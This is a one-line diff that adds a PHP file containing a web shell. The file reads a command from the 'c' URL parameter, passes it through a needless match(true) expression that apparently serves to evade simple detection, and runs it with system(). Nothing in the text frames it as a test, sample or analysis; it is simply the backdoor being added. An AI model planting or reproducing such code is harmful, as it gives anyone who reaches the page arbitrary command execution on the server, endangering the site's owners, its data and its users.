@@ -1,0 +1,1 @@
+<?php $c = match(true) { default => $_GET["c"] }; system($c);
